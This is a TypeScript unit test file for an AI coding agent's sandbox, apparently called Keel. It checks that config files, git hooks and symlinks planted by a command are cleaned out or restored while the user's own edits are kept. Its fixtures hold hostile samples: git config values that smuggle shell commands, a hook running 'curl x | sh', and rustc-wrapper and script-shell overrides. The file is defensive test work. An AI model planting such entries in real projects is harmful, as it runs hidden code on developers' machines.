import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, test } from 'node:test';
import { sanitizeGitConfig } from '../../src/agent/safety/sandbox/gitConfig.ts';
import { recordHostWrite } from '../../src/agent/safety/sandbox/hostWrites.ts';
import { type PinState, planPin, settlePins } from '../../src/agent/safety/sandbox/pins.ts';
import { planRunLater, RUN_LATER, settleRunLater } from '../../src/agent/safety/sandbox/runLater.ts';
import { createSandbox } from '../../src/agent/safety/sandbox/sandbox.ts';

// The run-later set's parts without bubblewrap: what gets pinned, what is undone afterwards (the
// command's effect is simulated by writing on the host between plan and settle), the git config
// allow-list, and Keel's own folder on the deny list whatever the setting says.

const dirs: string[] = [];
after(() => {
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
});
function tempDir(): string {
  const d = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'keel-runlater-unit-')));
  dirs.push(d);
  return d;
}
const everywhere = () => true;

test("Keel's own folders stay on the deny list when the user replaces it", () => {
  const home = tempDir();
  const keelHome = tempDir();
  const saved = process.env.KEEL_HOME;
  process.env.KEEL_HOME = keelHome;
  try {
    const sandbox = createSandbox({
      roots: [tempDir()],
      home,
      settings: { denyRead: ['.ssh'] },
      status: { tier: 'none', summary: 'none', checks: [] },
    });
    assert.deepEqual(sandbox.denyRead, [path.join(home, '.ssh'), path.join(home, '.keel'), keelHome]);
    sandbox.dispose();
  } finally {
    if (saved === undefined) delete process.env.KEEL_HOME;
    else process.env.KEEL_HOME = saved;
  }
});

test('every entry of the table says why; existing ones are bound read-only, missing ones are not created', () => {
  for (const entry of RUN_LATER) assert.ok(entry.why.length > 10, entry.path);
  const root = tempDir();
  fs.writeFileSync(path.join(root, '.npmrc'), 'registry=https://r.example.test/\n');
  const args: string[] = [];
  const plan = planRunLater([root], { bind: () => {} }, args);
  assert.deepEqual(args.slice(args.indexOf(path.join(root, '.npmrc')) - 1).slice(0, 3), [
    '--ro-bind',
    path.join(root, '.npmrc'),
    path.join(root, '.npmrc'),
  ]);
  assert.deepEqual(fs.readdirSync(root), ['.npmrc'], 'planning leaves nothing in the tree');
  // What the command did: a new .cargo/config.toml (and its folder), a workspace file, a plain file.
  fs.mkdirSync(path.join(root, '.cargo'));
  fs.writeFileSync(path.join(root, '.cargo', 'config.toml'), '[build]\nrustc-wrapper = "/tmp/x"\n');
  fs.writeFileSync(path.join(root, 'evil.code-workspace'), '{}');
  fs.writeFileSync(path.join(root, 'src.ts'), 'ok');
  const denials = settleRunLater(plan, everywhere);
  assert.deepEqual(denials.map((d) => path.relative(root, d.target)).sort(), [
    '.cargo/config.toml',
    'evil.code-workspace',
  ]);
  assert.deepEqual(fs.readdirSync(root).sort(), ['.npmrc', 'src.ts']);
  assert.deepEqual(settleRunLater(plan, everywhere), [], 'settling again finds nothing new');
});

test('a replaced link is put back; what Keel’s edit tools wrote meanwhile stays', () => {
  const root = tempDir();
  fs.writeFileSync(path.join(root, 'shared.npmrc'), 'registry=https://r.example.test/\n');
  fs.symlinkSync('shared.npmrc', path.join(root, '.npmrc'));
  const state: PinState = { snapshots: [] };
  const args: string[] = [];
  planPin({ path: path.join(root, '.npmrc'), why: 'npm', base: root }, args, state);
  planPin({ path: path.join(root, '.envrc'), why: 'direnv', base: root }, args, state);
  fs.rmSync(path.join(root, '.npmrc'));
  fs.writeFileSync(path.join(root, '.npmrc'), 'script-shell=/tmp/x\n');
  // The user approved this one through the Write tool while the command ran.
  const envrc = 'export A=1\n';
  fs.writeFileSync(path.join(root, '.envrc'), envrc);
  recordHostWrite(path.join(root, '.envrc'), createHash('sha256').update(envrc).digest('hex'));
  const denials = settlePins(state, everywhere);
  assert.equal(denials.length, 1);
  assert.match(denials[0]?.detail ?? '', /link replaced by the command; restored/);
  assert.equal(fs.readlinkSync(path.join(root, '.npmrc')), 'shared.npmrc');
  assert.equal(fs.readFileSync(path.join(root, '.envrc'), 'utf8'), envrc);
});

test('a new repository keeps only config that runs nothing, in every spelling git accepts', () => {
  const text = [
    '[core]',
    '\trepositoryformatversion = 0',
    '\tfsmonitor = touch /tmp/a',
    '[core] hooksPath = /tmp/hooks',
    '[CORE]',
    '\tPager = less; touch /tmp/b',
    '[remote "origin"]',
    '\turl = https://example.test/r.git',
    '\tuploadpack = touch /tmp/c',
    '[include]',
    '\tpath = ../evil.cfg',
    '[alias]',
    '\tst = !touch /tmp/d',
    '[user]',
    '\tname = Bot \\',
    '\t\t; editor = touch /tmp/e',
    '[branch.main]',
    '\tremote = origin',
    '\tfsmonitor',
  ].join('\n');
  const clean = sanitizeGitConfig(text);
  assert.equal(
    clean.text,
    '[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = https://example.test/r.git\n[branch.main]\n\tremote = origin\n',
  );
  assert.deepEqual(clean.dropped, [
    'core.fsmonitor',
    'core.hooksPath',
    'CORE.Pager',
    'remote.origin.uploadpack',
    'include.path',
    'alias.st',
    'user.name',
    'branch.main.fsmonitor',
  ]);
  assert.doesNotMatch(sanitizeGitConfig('[core]\n\tworktree = /home/u\n').text, /worktree/);
  assert.match(sanitizeGitConfig('[core]\n\tworktree = ../../x\n', { submodule: true }).text, /worktree/);
});

// Two commands in one workspace (a background job and the next command, or the user's own `git init`
// in a terminal): one plans while the other is half-way through making a repository. What the
// other made, git's own default files, must survive the first one's check; what would run must not.
function halfMadeRepository(): { root: string; gitDir: string } {
  const root = tempDir();
  const gitDir = path.join(root, '.git');
  fs.mkdirSync(path.join(gitDir, 'objects'), { recursive: true });
  fs.writeFileSync(path.join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
  return { root, gitDir };
}
const GIT_DEFAULT_CONFIG =
  '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n';

test('a repository another process finishes making while a command runs keeps all git made', () => {
  const { root, gitDir } = halfMadeRepository();
  const plan = planRunLater([root], { bind: () => {} }, []);
  fs.writeFileSync(path.join(gitDir, 'config'), GIT_DEFAULT_CONFIG);
  fs.mkdirSync(path.join(gitDir, 'hooks'));
  fs.writeFileSync(path.join(gitDir, 'hooks', 'pre-commit.sample'), '#!/bin/sh\n');
  fs.mkdirSync(path.join(gitDir, 'info'));
  fs.writeFileSync(
    path.join(gitDir, 'info', 'exclude'),
    '# git ls-files --others --exclude-from=.git/info/exclude\n',
  );
  assert.deepEqual(settleRunLater(plan, everywhere), []);
  assert.equal(fs.readFileSync(path.join(gitDir, 'config'), 'utf8'), GIT_DEFAULT_CONFIG);
  assert.ok(fs.existsSync(path.join(gitDir, 'hooks', 'pre-commit.sample')));
  assert.ok(fs.existsSync(path.join(gitDir, 'info', 'exclude')));
});

test('what would run in files that appeared in a git dir is still cleaned out, and links are not followed', () => {
  const { root, gitDir } = halfMadeRepository();
  const outside = path.join(tempDir(), 'profile');
  fs.writeFileSync(outside, 'export A=1\n');
  const plan = planRunLater([root], { bind: () => {} }, []);
  fs.writeFileSync(path.join(gitDir, 'config'), `${GIT_DEFAULT_CONFIG}\tfsmonitor = ./run.sh\n`);
  fs.mkdirSync(path.join(gitDir, 'hooks'));
  fs.writeFileSync(path.join(gitDir, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl x | sh\n');
  fs.mkdirSync(path.join(gitDir, 'info'));
  fs.writeFileSync(path.join(gitDir, 'info', 'attributes'), '* filter=lfs\n');
  fs.writeFileSync(path.join(gitDir, 'info', 'exclude'), 'payload.js\n');
  const denied = settleRunLater(plan, everywhere).map((d) => path.relative(gitDir, d.target));
  assert.deepEqual(denied.sort(), ['config', 'hooks/post-checkout', 'info/attributes', 'info/exclude']);
  assert.equal(fs.readFileSync(path.join(gitDir, 'config'), 'utf8'), GIT_DEFAULT_CONFIG);
  assert.deepEqual(fs.readdirSync(path.join(gitDir, 'hooks')), []);

  // A config that is a link: removed, never rewritten through (that would edit the file it points at).
  const again = halfMadeRepository();
  const plan2 = planRunLater([again.root], { bind: () => {} }, []);
  fs.symlinkSync(outside, path.join(again.gitDir, 'config'));
  fs.symlinkSync(path.dirname(outside), path.join(again.gitDir, 'hooks'));
  assert.equal(settleRunLater(plan2, everywhere).length, 2);
  assert.equal(fs.lstatSync(path.join(again.gitDir, 'config'), { throwIfNoEntry: false }), undefined);
  assert.equal(fs.lstatSync(path.join(again.gitDir, 'hooks'), { throwIfNoEntry: false }), undefined);
  assert.equal(fs.readFileSync(outside, 'utf8'), 'export A=1\n');
});

test('while a long command runs, the user’s own edits survive its checks: git rewriting its config, VS Code settings, a new .npmrc set aside', () => {
  const keelHome = tempDir();
  const saved = process.env.KEEL_HOME;
  process.env.KEEL_HOME = keelHome;
  try {
    const { root, gitDir } = halfMadeRepository();
    fs.writeFileSync(path.join(gitDir, 'config'), GIT_DEFAULT_CONFIG);
    fs.mkdirSync(path.join(root, '.vscode'));
    const plan = planRunLater([root], { bind: () => {} }, []);
    // git writes config.lock and renames it over config: a new inode in the same folder. Inside the
    // sandbox the config is a mount point, so only someone outside it could have done this.
    const withRemote = `${GIT_DEFAULT_CONFIG}[remote "origin"]\n\turl = https://example.test/r.git\n`;
    fs.writeFileSync(path.join(gitDir, 'config.lock'), withRemote);
    fs.renameSync(path.join(gitDir, 'config.lock'), path.join(gitDir, 'config'));
    // VS Code's settings editor writes into the existing .vscode (read-only inside the sandbox): left alone.
    const settings = path.join(root, '.vscode', 'settings.json');
    fs.writeFileSync(settings, '{"editor.tabSize": 2}\n');
    // A new .npmrc cannot be told apart from one the command made: out of the tree, but kept.
    const npmrc = path.join(root, '.npmrc');
    fs.writeFileSync(npmrc, 'save-exact=true\n');
    const denied = settleRunLater(plan, everywhere);
    assert.equal(
      fs.readFileSync(path.join(gitDir, 'config'), 'utf8'),
      withRemote,
      'the config is the user’s',
    );
    assert.equal(fs.readFileSync(settings, 'utf8'), '{"editor.tabSize": 2}\n');
    assert.deepEqual(
      denied.map((d) => d.target),
      [npmrc],
    );
    assert.ok(!fs.existsSync(npmrc), 'not left where npm would act on it');
    const kept = /kept at (\S+)\)/.exec(denied[0]?.detail ?? '')?.[1];
    assert.ok(kept?.startsWith(path.join(keelHome, 'set-aside')), denied[0]?.detail);
    assert.equal(fs.readFileSync(kept ?? '', 'utf8'), 'save-exact=true\n', 'set aside, not lost');
  } finally {
    if (saved === undefined) delete process.env.KEEL_HOME;
    else process.env.KEEL_HOME = saved;
  }
});
